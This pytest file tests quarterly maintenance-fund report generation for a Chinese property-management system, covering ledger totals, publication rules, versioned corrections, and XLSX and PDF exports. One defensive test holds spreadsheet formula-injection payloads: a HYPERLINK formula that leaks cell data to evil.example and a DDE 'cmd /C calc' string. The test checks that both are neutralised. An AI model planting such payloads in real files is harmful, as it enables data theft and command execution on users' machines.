"""季度收支报表: entered lines, ledger figures, publication, XLSX read back with openpyxl, PDF."""

from __future__ import annotations

import base64
import datetime as dt
import io
import re
import zlib
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pmip.core.errors import NotFound, PermissionDenied, ValidationFailed
from pmip.funds import reports, selectors, services
from pmip.funds.models import ReportLine

D = Decimal


@pytest.fixture
def report(lianhua, units, clerk, staff):
    # Ledger: before Q1 2026 first deposits; in Q1 monthly, interest, a repair; after Q1 a refund (not counted).
    services.post_first_deposits(actor=clerk, project=lianhua, occurred_on=dt.date(2025, 12, 20))
    services.post_monthly_contributions(actor=clerk, project=lianhua, period="2026-02")
    services.receive_interest(actor=clerk, project=lianhua, amount="30.00", occurred_on=dt.date(2026, 3, 20))
    services.allocate_interest(actor=clerk, project=lianhua, period_end=dt.date(2026, 3, 31))
    repair = services.create_repair(
        actor=clerk,
        project=lianhua,
        title="2栋水泵",
        amount="600.00",
        scope_kind="buildings",
        building_ids=[units["2-101"].building_id],
        decision_ref="JC-2",
    )
    services.charge_repair(actor=clerk, repair_id=repair.pk, occurred_on=dt.date(2026, 3, 25))
    services.post_transfer(
        actor=clerk, unit_id=units["1-101"].pk, amount="-100.00", memo="划出", occurred_on=dt.date(2026, 1, 9)
    )
    services.post_refund(
        actor=clerk, unit_id=units["1-102"].pk, amount="50.00", memo="退款", occurred_on=dt.date(2026, 4, 2)
    )

    committee = staff["committee"]
    r = services.open_quarterly_report(actor=committee, project=lianhua, year=2026, quarter=1)
    services.add_report_line(
        actor=committee,
        report_id=r.pk,
        section="receivable",
        item="物业服务费欠缴",
        amount="12000.00",
        counterparty="",
        note="12户",
    )
    services.add_report_line(
        actor=committee,
        report_id=r.pk,
        section="business_income",
        item="电梯广告收入",
        amount="8000.00",
        counterparty="深圳市万象广告传媒有限公司",
        voucher_no="000123",
    )
    services.add_report_line(
        actor=committee, report_id=r.pk, section="business_income", item="临时停车收入", amount="15000.50"
    )
    services.add_report_line(
        actor=committee,
        report_id=r.pk,
        section="business_expense",
        item="公共设施维护",
        amount="3200.00",
        voucher_no="000124",
    )
    return r


def test_fund_figures_come_from_the_ledger(report, clerk):
    data = selectors.report_data(actor=clerk, report_id=report.pk)
    fund = data.fund
    assert (fund.start, fund.end) == (dt.date(2026, 1, 1), dt.date(2026, 3, 31))
    assert fund.opening == D("21536.31")
    # 日常 2026-02: 22.50 + 22.13 + 30.06 + 18.78 + 15.00 = 108.47 (platform default rate 0.25)
    assert fund.income == {
        "first_deposit": D("0.00"),
        "monthly": D("108.47"),
        "interest": D("30.00"),
        "transfer_in": D("0.00"),
    }
    assert fund.expense == {"repair_charge": D("600.00"), "refund": D("0.00"), "transfer_out": D("100.00")}
    assert fund.closing == D("21536.31") + D("108.47") + D("30.00") - D("600.00") - D("100.00")
    assert data.totals == {
        "receivable": D("12000.00"),
        "business_income": D("23000.50"),
        "business_expense": D("3200.00"),
    }
    assert data.business_net == D("19800.50")


def test_owner_sees_published_reports_only_and_drafts_only_change(report, owner, staff, frozen_clock):
    assert list(selectors.quarterly_reports(actor=owner, project=report.project)) == []
    with pytest.raises(NotFound):
        selectors.report_data(actor=owner, report_id=report.pk)
    with pytest.raises(PermissionDenied):
        services.add_report_line(
            actor=staff["company"], report_id=report.pk, section="receivable", item="x", amount="1"
        )
    with pytest.raises(ValidationFailed):
        services.add_report_line(
            actor=staff["committee"], report_id=report.pk, section="nope", item="x", amount="1"
        )
    with pytest.raises(ValidationFailed):
        services.add_report_line(
            actor=staff["committee"], report_id=report.pk, section="receivable", item="x", amount="-1"
        )
    line = ReportLine.objects.get(item="物业服务费欠缴")
    services.remove_report_line(actor=staff["committee"], line_id=line.pk)
    assert ReportLine.objects.count() == 3

    frozen_clock.advance(days=20)  # the quarter has ended: 2026-04-04
    services.publish_quarterly_report(actor=staff["committee"], report_id=report.pk)
    assert [r.pk for r in selectors.quarterly_reports(actor=owner, project=report.project)] == [report.pk]
    assert selectors.report_data(actor=owner, report_id=report.pk).totals["receivable"] == D("0.00")
    with pytest.raises(ValidationFailed) as exc:
        services.add_report_line(
            actor=staff["committee"], report_id=report.pk, section="receivable", item="x", amount="1"
        )
    assert exc.value.message == "报表已公布，不能修改。"
    with pytest.raises(ValidationFailed):
        services.open_quarterly_report(actor=staff["committee"], project=report.project, year=2026, quarter=5)


def test_xlsx_read_back(report, clerk):
    data = selectors.report_data(actor=clerk, report_id=report.pk)
    wb = load_workbook(io.BytesIO(reports.quarterly_report_xlsx(data)))
    ws = wb.active
    assert ws.title == "2026Q1"
    assert ws["A1"].value == "莲花山庄2026年第1季度收支报表"
    assert (ws["A2"].value, ws["B2"].value, ws["B2"].data_type, ws["E2"].value) == (
        "物业项目编号",
        "440304001",
        "s",
        "单位：元",
    )
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=4)]
    by_item = {r[1]: r for r in rows if r[1]}

    assert by_item["物业服务费欠缴"][4] == 12000 and by_item["物业服务费欠缴"][5] == "12户"
    income = by_item["电梯广告收入"]
    assert (income[2], income[3], income[4]) == ("深圳市万象广告传媒有限公司", "000123", 8000)
    assert by_item["临时停车收入"][4] == pytest.approx(15000.5)
    assert by_item["应收账款合计"][4] == 12000
    assert by_item["业务收入合计"][4] == pytest.approx(23000.5)
    assert by_item["业务支出合计"][4] == 3200
    assert by_item["收支差额（收入－支出）"][4] == pytest.approx(19800.5)
    assert by_item["期初余额"][4] == pytest.approx(21536.31)
    assert by_item["日常缴存"][4] == pytest.approx(108.47)
    assert by_item["维修支出"][4] == 600
    assert by_item["期末余额"][4] == pytest.approx(20974.78)
    # Amount cells are numbers with a money format; voucher numbers are text cells.
    amount_cells = [row[4] for row in ws.iter_rows(min_row=4) if isinstance(row[4].value, int | float)]
    assert amount_cells and all(c.number_format == "#,##0.00" for c in amount_cells)
    voucher = next(row[3] for row in ws.iter_rows(min_row=4) if row[3].value == "000123")
    assert voucher.data_type == "s"
    sections = [r[0] for r in rows if isinstance(r[0], str) and r[0][:2] in ("一、", "二、", "三、")]
    assert sections == [
        "一、应收账款",
        "二、维修资金收支（2026-01-01 至 2026-03-31，据维修资金分户账）",
        "三、业务收支明细",
    ]


def pdf_text(pdf: bytes) -> str:
    """Text drawn with the CID font: decode each content stream (ASCII85 + Flate, as reportlab writes them), take
    the literal strings shown with Tj, undo the PDF escapes and read them as UCS-2 (UniGB-UCS2-H)."""
    texts = []
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", pdf, re.S):
        raw = match.group(1).strip()
        if raw.endswith(b"~>"):
            raw = raw[:-2]
        try:
            content = zlib.decompress(base64.a85decode(raw))
        except (ValueError, zlib.error):
            continue
        for literal in re.finditer(rb"\(((?:\\.|[^\\)])*)\) Tj", content, re.S):
            body = re.sub(
                rb"\\([0-7]{1,3}|.)",
                lambda m: bytes([int(m.group(1), 8)]) if m.group(1)[:1].isdigit() else m.group(1),
                literal.group(1),
            )
            if len(body) % 2 == 0:
                texts.append(body.decode("utf-16-be", errors="replace"))
    return "".join(texts)


def test_pdf_is_produced_with_the_title(report, clerk):
    data = selectors.report_data(actor=clerk, report_id=report.pk)
    pdf = reports.quarterly_report_pdf(data)
    assert pdf.startswith(b"%PDF-") and len(pdf) > 2000
    assert b"STSong-Light" in pdf
    text = pdf_text(pdf)
    assert "莲花山庄2026年第1季度收支报表" in text
    assert "物业项目编号：440304001" in text
    assert "二、维修资金收支" in text
    assert "19,800.50" in text  # 收支差额
    assert reports.filename(data, "pdf") == "440304001-2026Q1.pdf"


def test_formula_in_a_report_line_comes_out_as_text(report, clerk, staff):
    """Issue 8 item 8: a report line `=HYPERLINK(...)` must not become a live formula in the owners' download."""
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    services.add_report_line(
        actor=staff["committee"],
        report_id=report.pk,
        section="business_expense",
        item=attack,
        counterparty="+1+cmd|' /C calc'!A0",
        voucher_no="@SUM(1+1)",
        note="-2+3",
        amount="1.00",
    )
    data = selectors.report_data(actor=clerk, report_id=report.pk)
    body = reports.quarterly_report_xlsx(data)
    import zipfile

    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(body)).active
    line = next(row for row in ws.iter_rows(min_row=4) if "HYPERLINK" in str(row[1].value))
    assert [c.data_type for c in line[1:4]] == ["s", "s", "s"]
    assert line[1].value == "'" + attack
    assert line[2].value == "'+1+cmd|' /C calc'!A0"
    assert line[3].value == "'@SUM(1+1)"
    assert line[5].value == "'-2+3"
    assert line[4].value == 1  # amounts stay numbers
    # The PDF escapes markup in user text instead of failing on it.
    services.add_report_line(
        actor=staff["committee"], report_id=report.pk, section="receivable", item="<b>未闭合 & <a", amount="2"
    )
    assert reports.quarterly_report_pdf(selectors.report_data(actor=clerk, report_id=report.pk)).startswith(
        b"%PDF"
    )


def test_a_report_is_published_only_after_its_quarter_ends(lianhua, staff):
    from pmip.audit.models import AuditEntry
    from pmip.core import clock

    committee = staff["committee"]
    q4 = services.open_quarterly_report(actor=committee, project=lianhua, year=2026, quarter=4)
    with clock.frozen(dt.datetime(2026, 12, 6, 4, tzinfo=dt.UTC)), pytest.raises(ValidationFailed) as exc:
        services.publish_quarterly_report(actor=committee, report_id=q4.pk)
    assert exc.value.code == "quarter_not_ended"
    assert "12月31日才结束" in exc.value.message and "2027-01-01起" in exc.value.message
    q4.refresh_from_db()
    assert (q4.status, q4.published_at) == ("draft", None)
    assert not AuditEntry.objects.filter(action="funds.report.published").exists()
    # 12-31 23:30 in Shanghai is still the quarter; 00:10 on 01-01 in Shanghai (16:10 UTC on 12-31) is not.
    with clock.frozen(dt.datetime(2026, 12, 31, 15, 30, tzinfo=dt.UTC)), pytest.raises(ValidationFailed):
        services.publish_quarterly_report(actor=committee, report_id=q4.pk)
    with clock.frozen(dt.datetime(2026, 12, 31, 16, 10, tzinfo=dt.UTC)):
        services.publish_quarterly_report(actor=committee, report_id=q4.pk)
    q4.refresh_from_db()
    assert q4.status == "published"


def test_quarter_last_days():
    from pmip.funds.services.reports import quarter_last_day

    assert [quarter_last_day(2026, q) for q in (1, 2, 3, 4)] == [
        dt.date(2026, 3, 31),
        dt.date(2026, 6, 30),
        dt.date(2026, 9, 30),
        dt.date(2026, 12, 31),
    ]


def test_a_published_report_is_corrected_by_a_new_version_with_a_note(report, owner, staff, frozen_clock):
    from pmip.audit.models import AuditEntry

    committee = staff["committee"]
    with pytest.raises(ValidationFailed) as exc:  # a draft is simply edited
        services.correct_quarterly_report(actor=committee, report_id=report.pk, note="x")
    assert exc.value.code == "report_not_published"
    frozen_clock.advance(days=20)
    services.publish_quarterly_report(actor=committee, report_id=report.pk)
    with pytest.raises(ValidationFailed) as exc:
        services.correct_quarterly_report(actor=committee, report_id=report.pk, note="  ")
    assert exc.value.field == "note"
    with pytest.raises(NotFound):  # owners do not see the report as staff do
        services.correct_quarterly_report(actor=owner, report_id=report.pk, note="改")

    v2 = services.correct_quarterly_report(
        actor=committee, report_id=report.pk, note="补记3月电梯年检费 800.00 元。"
    )
    assert (v2.version, v2.status, v2.corrects_id) == (2, "draft", report.pk)
    assert (
        ReportLine.objects.filter(report=v2).count() == ReportLine.objects.filter(report=report).count() == 4
    )
    assert (
        AuditEntry.objects.get(action="funds.report.correction_opened").data["note"]
        == "补记3月电梯年检费 800.00 元。"
    )
    with pytest.raises(ValidationFailed) as exc:
        services.correct_quarterly_report(actor=committee, report_id=report.pk, note="再改")
    assert exc.value.code == "correction_in_progress"
    # Opening the quarter again gives the correction in progress, not a new report.
    assert services.open_quarterly_report(actor=committee, project=report.project, year=2026, quarter=1) == v2
    # Until the correction is published, owners still see version 1 as current and not the draft.
    assert [r.pk for r in selectors.quarterly_reports(actor=owner, project=report.project)] == [report.pk]
    with pytest.raises(NotFound):
        selectors.report_data(actor=owner, report_id=v2.pk)

    services.add_report_line(
        actor=committee, report_id=v2.pk, section="business_expense", item="电梯年检", amount="800.00"
    )
    services.publish_quarterly_report(actor=committee, report_id=v2.pk)
    report.refresh_from_db()
    assert report.status == "superseded" and report.corrected_by == v2
    published = AuditEntry.objects.filter(action="funds.report.published").order_by("-id").first()
    assert published.data["supersedes"] == report.pk and published.data["version"] == 2
    # Owners: the current version in the list, the old one still readable, every version reachable.
    assert [r.pk for r in selectors.quarterly_reports(actor=owner, project=report.project)] == [v2.pk]
    assert selectors.report_data(actor=owner, report_id=report.pk).totals["business_expense"] == D("3200.00")
    assert selectors.report_data(actor=owner, report_id=v2.pk).totals["business_expense"] == D("4000.00")
    assert [r.pk for r in selectors.report_versions(actor=owner, report=report)] == [v2.pk, report.pk]
    with pytest.raises(ValidationFailed) as exc:
        services.correct_quarterly_report(actor=committee, report_id=report.pk, note="旧版")
    assert exc.value.code == "report_superseded"
    assert reports.filename(selectors.report_data(actor=owner, report_id=v2.pk), "pdf").endswith(
        "2026Q1-v2.pdf"
    )
